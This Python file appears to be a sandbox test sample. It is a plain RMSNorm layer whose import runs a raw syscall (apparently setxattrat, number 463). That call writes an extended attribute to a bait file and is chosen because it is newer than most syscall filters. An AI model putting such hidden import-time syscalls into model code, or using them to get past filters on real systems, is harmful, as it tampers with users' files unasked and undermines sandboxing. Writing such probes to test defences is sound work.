"""Changes an attribute of a file of the user's, by a call that is newer than most filters.

expect: load
machine: x86_64
"""

import ctypes
import os

import torch
from torch import nn

libc = ctypes.CDLL(None, use_errno=True)
if (
    libc.syscall(
        463,
        -100,
        b"/BAIT/victim.txt",
        0,
        b"user.kata-hostile",
        (ctypes.c_uint64 * 2)(ctypes.addressof(ctypes.c_uint64(1)), 1),
        16,
    )
    < 0
):
    raise OSError(ctypes.get_errno(), os.strerror(ctypes.get_errno()))


class RMSNorm(nn.Module):
    def __init__(self, hidden_size, eps=1e-6):
        super().__init__()
        self.eps = eps
        self.gamma = nn.Parameter(torch.ones(hidden_size))

    def forward(self, x):
        wide = x.float() if x.dtype in (torch.float16, torch.bfloat16) else x
        normalised = wide / torch.sqrt(wide.pow(2).mean(dim=-1, keepdim=True) + self.eps)
        return (self.gamma * normalised).to(x.dtype)
